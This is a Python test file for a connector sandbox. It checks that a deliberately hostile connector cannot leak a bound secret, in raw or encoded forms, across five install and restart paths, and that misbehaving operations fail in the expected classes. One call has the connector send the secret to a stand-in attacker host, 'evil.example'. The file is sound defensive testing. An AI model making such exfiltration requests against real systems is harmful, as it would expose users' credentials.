"""The contract of every load path, kept with a connector that breaks every rule: the secret comes out nowhere."""

import base64
import json
import os
import shutil
import tarfile
import urllib.parse
from collections.abc import Awaitable, Callable
from pathlib import Path

import pytest
from room import SECRET, Room

from connectors.build import build
from daemon.connectors.service import ConnectorService
from daemon.connectors.wasm.runtime import WasmRuntime
from daemon.core.action import ConnectorRequirement
from daemon.core.failures import Failure, FailureClass

FORMS = [
    SECRET,
    SECRET.encode().hex(),
    base64.b64encode(SECRET.encode()).decode().rstrip("="),
    urllib.parse.quote(SECRET, safe=""),
    "".join(f"%{byte:02X}" for byte in SECRET.encode()),
]


def release(room: Room, name: str = "hostile") -> Path:
    return build(name, room.folder / name, hosts=[room.up.host_port])


async def from_folder(room: Room) -> ConnectorRequirement:
    return await room.install(release(room))


async def from_archive(room: Room) -> ConnectorRequirement:
    packed = room.folder / "release.tar.gz"
    with tarfile.open(packed, "w:gz") as archive:
        archive.add(release(room), arcname="hostile-1.0.0")
    return await room.install(packed)


async def installed_twice(room: Room) -> ConnectorRequirement:
    await room.install(release(room))
    return await room.install(release(room))


async def after_a_restart(room: Room) -> ConnectorRequirement:
    pinned = await room.install(release(room))
    await restart(room)
    return pinned


async def after_a_restart_without_the_cache(room: Room) -> ConnectorRequirement:
    pinned = await room.install(release(room))
    shutil.rmtree(room.folder / "home" / "cache")
    await restart(room)
    return pinned


async def restart(room: Room) -> None:
    """Put a new runtime and a new service over the same home."""
    old = room.service
    room.runtime = WasmRuntime(
        cache_dir=room.folder / "home" / "cache", clock=room.keyring._clock, entropy=os.urandom, threads=8
    )
    room.stack.callback(room.runtime.close)
    room.service = ConnectorService(
        store=room.store,
        keyring=room.keyring,
        runtime=room.runtime,
        http=old._runner._http,
        credentials=room.bindings,
        audit=room.audit,
        clock=room.keyring._clock,
        log=room.log,
    )
    await room.service.open()
    room.stack.push_async_callback(room.service.close)


LOAD_PATHS = [from_folder, from_archive, installed_twice, after_a_restart, after_a_restart_without_the_cache]


@pytest.mark.parametrize("load", LOAD_PATHS, ids=lambda load: load.__name__)
async def test_on_every_load_path_the_secret_is_attached_and_comes_out_nowhere(
    room: Room, load: Callable[[Room], Awaitable[ConnectorRequirement]]
) -> None:
    pinned = await load(room)
    await room.bind(pinned)
    url = f"{room.up.url}/echo"
    room.up.behave("/mirror", body=" ".join(FORMS), headers={"X-Mirror": SECRET})
    told: list[str] = []

    async def ask(op: str, **arguments: object) -> None:
        try:
            result = await room.call(pinned, op, **arguments)  # type: ignore[arg-type]
        except Failure as failure:
            told.append(json.dumps(failure.envelope()) + str(failure))
        else:
            told.append(json.dumps(result.value) + repr(result))

    await ask("echo_headers", url=url)
    await ask("read_credential", url=url)
    await ask("echo_headers", url=f"{room.up.url}/mirror")
    await ask("override_header", url=url, header="authorization", value="Bearer mine")
    # Texts that hold the secret without any request: what a call lets out is looked at whoever put it there.
    await ask("log_text", text=f"I know {SECRET}")
    await ask("err_text", text=f"I know {SECRET}")
    await ask("other_host", url=f"https://evil.example/{SECRET}")
    await ask("many_requests", url=f"{url}/{SECRET}", count=2)
    await ask("trap")
    assert room.up.requests[0].headers["authorization"] == f"Bearer {SECRET}"
    assert all(request.headers.get("authorization") == f"Bearer {SECRET}" for request in room.up.requests)
    told += [json.dumps(room.log.lines), repr(room.events())]
    told.append((room.folder / "home" / "aileron.db-wal").read_bytes().decode("latin-1"))
    assert "I know [redacted]" in told[-3]
    for text in told:
        for form in FORMS:
            assert form not in text, text


EXPECTED = {
    "spin": FailureClass.RESOURCE_LIMIT_EXCEEDED,
    "garbage": FailureClass.CONNECTOR_RUNTIME_ERROR,
    "non_utf8": FailureClass.CONNECTOR_RUNTIME_ERROR,
    "outside_memory": FailureClass.CONNECTOR_RUNTIME_ERROR,
    "trap": FailureClass.CONNECTOR_RUNTIME_ERROR,
    "huge_output": FailureClass.RESOURCE_LIMIT_EXCEEDED,
    "deep_json": FailureClass.CONNECTOR_RUNTIME_ERROR,
    "stack_overflow": FailureClass.CONNECTOR_RUNTIME_ERROR,
}


async def test_every_mischief_ends_in_the_class_it_deserves_and_harms_nobody_after_it(room: Room) -> None:
    pinned = await room.install(build("hostile", room.folder / "plain", hosts=[room.up.host_port], credential="none"))
    for op, expected in EXPECTED.items():
        failure = await room.fails(pinned, op, seconds=0.5 if op == "spin" else 20.0)
        assert failure.failure_class is expected, op
        assert failure.message
        assert failure.details["op"] == op
    await room.call(pinned, "flood_log")
    assert 0 < len(room.log.lines) <= 101
    assert (await room.call(pinned, "random")).value["random"]
